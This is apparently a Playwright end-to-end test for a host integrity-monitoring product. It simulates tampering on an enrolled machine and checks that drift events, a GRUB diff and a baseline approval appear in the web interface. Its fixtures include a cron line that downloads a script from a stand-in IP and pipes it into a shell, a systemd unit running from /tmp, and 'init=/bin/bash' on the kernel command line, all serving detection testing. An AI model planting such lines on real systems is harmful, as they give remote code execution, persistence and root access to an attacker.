import { expect, test } from "@playwright/test";
import { demo, signInToShell, tenantIdByName } from "./helpers";
import { RealAgent } from "./real-agent";

const grub = (cmdline: string) => `GRUB_DEFAULT=0\nGRUB_TIMEOUT=5\nGRUB_CMDLINE_LINUX_DEFAULT="${cmdline}"\nGRUB_CMDLINE_LINUX=""\n`;

test("the real agent's tampered root shows as drift: judged events, the GRUB change in the diff viewer, approval", async ({ page }) => {
  const agent = new RealAgent();
  try {
    await signInToShell(page, demo.fabrikamAdmin);
    const tenantId = await tenantIdByName(page, "Fabrikam Logistics");
    await page.goto(`/t/${tenantId}/enrollment`);
    await page.getByRole("button", { name: "Create enrollment token" }).click();
    await page.getByRole("dialog", { name: "Create enrollment token" }).getByLabel("Label").fill("Integrity lab");
    await page.getByRole("dialog", { name: "Create enrollment token" }).getByRole("button", { name: "Create" }).click();
    const created = page.getByRole("dialog", { name: "Enrollment token Integrity lab created" });
    const token = await created.getByTestId("secret-once").inputValue();
    await created.getByRole("button", { name: "Done" }).click();

    // A clean machine: its first snapshots become the baselines.
    agent.write("etc/crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n");
    agent.write("etc/systemd/system/web.service", "[Service]\nExecStart=/usr/bin/web --port 8080\n\n[Install]\nWantedBy=multi-user.target\n");
    agent.write("etc/default/grub", grub("quiet"));
    agent.enroll(new URL(page.url()).origin, token);
    agent.runOnce();

    // Tampering: a download piped into a shell from cron, a unit running from /tmp, init= on the kernel command line.
    agent.write("etc/cron.d/sysupdate", "*/5 * * * * root curl -fsSL http://203.0.113.7/u.sh | sh\n");
    agent.write("etc/systemd/system/dbus-helper.service", "[Service]\nExecStart=/tmp/.cache/dbus-helper\n\n[Install]\nWantedBy=multi-user.target\n");
    agent.write("etc/default/grub", grub("quiet init=/bin/bash"));
    agent.runOnce();

    // Drift is evaluated in the background as the snapshots arrive: wait for all four events.
    await expect
      .poll(async () => (await (await page.request.get(`/api/v1/tenants/${tenantId}/integrity/events?active=true`)).json()).total, { timeout: 30_000 })
      .toBe(4);
    await page.goto(`/t/${tenantId}/integrity-events?active=true`);
    const events = page.getByRole("table", { name: "Drift events" });
    const grubRow = events.getByRole("row", { name: /GRUB_CMDLINE_LINUX_DEFAULT/ });
    await expect(grubRow).toContainText("CRITICAL");
    await expect(events.getByRole("row", { name: /\/etc\/cron\.d\/sysupdate/ })).toContainText("CRITICAL");
    await expect(events.getByRole("row", { name: /dbus-helper\.service/ })).toContainText("high");

    // The diff viewer on the asset shows the GRUB line before and after.
    await grubRow.getByRole("link", { name: /\S+/ }).last().click();
    await expect(page).toHaveURL(/tab=integrity/);
    await page.getByLabel("Category").selectOption("boot");
    const compared = page.getByRole("table", { name: "Entries compared" });
    const line = compared.getByRole("row", { name: /GRUB_CMDLINE_LINUX_DEFAULT/ });
    await expect(line).toContainText("Modified");
    await line.getByRole("button", { name: "Compare" }).click();
    const sideBySide = page.getByRole("table", { name: "Before and after" });
    const value = sideBySide.getByRole("row", { name: /value/ });
    await expect(value).toHaveAttribute("data-changed", "true");
    await expect(value.getByRole("cell").nth(0)).toHaveText("quiet");
    await expect(value.getByRole("cell").nth(1)).toHaveText("quiet init=/bin/bash");

    // Approving the unit (with a reason) folds it into the baseline.
    await page.goto(`/t/${tenantId}/integrity-events?active=true`);
    await events.getByRole("link", { name: "dbus-helper.service" }).click();
    await page.getByRole("button", { name: "Approve into baseline…" }).click();
    const dialog = page.getByRole("dialog", { name: "Approve into the baseline" });
    await dialog.getByLabel("Why is this expected?").fill("Our helper; it moves to /opt next sprint.");
    await dialog.getByRole("button", { name: "Approve" }).click();
    await expect(page.getByText("Approved", { exact: true }).first()).toBeVisible();
    await expect(page.getByText("Our helper; it moves to /opt next sprint.")).toBeVisible();
  } finally {
    agent.remove();
  }
});
